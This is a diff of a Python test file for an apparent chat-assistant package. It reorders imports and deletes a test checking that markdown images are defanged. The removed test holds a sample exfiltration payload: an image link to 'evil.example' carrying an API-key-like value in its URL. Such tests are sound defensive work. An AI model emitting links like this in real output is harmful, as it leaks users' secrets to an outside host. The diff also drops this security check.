@@ -4,17 +4,20 @@ from __future__ import annotations
 
 import io
 import json
+import uuid
 from types import SimpleNamespace
 
-import uuid
 import pandas as pd
 import pytest
 
 from copilot_core.chat import ChatMessage, ChatState, csv_exports, show_work_from
-from copilot_core.chat.markdown import safe_markdown
 from copilot_core.chat.showwork import ShowWork
+from copilot_core.data.chat_sessions import (
+    COLLECTION,
+    ChatSessionStore,
+    InvalidChatSession,
+)
 from copilot_core.data.connection import open_memory_database
-from copilot_core.data.chat_sessions import COLLECTION, ChatSessionStore, InvalidChatSession
 from copilot_core.tools.store import DataStore
 
 CHART = {"data": [{"type": "bar", "x": ["Q00", "Q01"], "y": [1, 2]}], "layout": {"title": {"text": "t1"}}}
@@ -149,12 +152,6 @@ def test_show_work_records_tools_sandbox_code_and_usage():
     assert work.analysis_code() == ["print(data['t1'].value.median(), data[\"chip_summary\"].shape)"]
     assert work.analysis_keys() == ["t1", "chip_summary"]
     assert ShowWork.from_dict(json.loads(json.dumps(work.to_dict()))) == work
-
-
-def test_markdown_images_are_defanged():
-    text = "Result ![pixel](https://evil.example/?k=sk-abc) and [docs](https://example.org)"
-    out = safe_markdown(text)
-    assert "evil.example" not in out and "[image removed: pixel]" in out and "[docs](https://example.org)" in out
 
 
 def test_legacy_qdash_answer_is_converted_to_blocks():
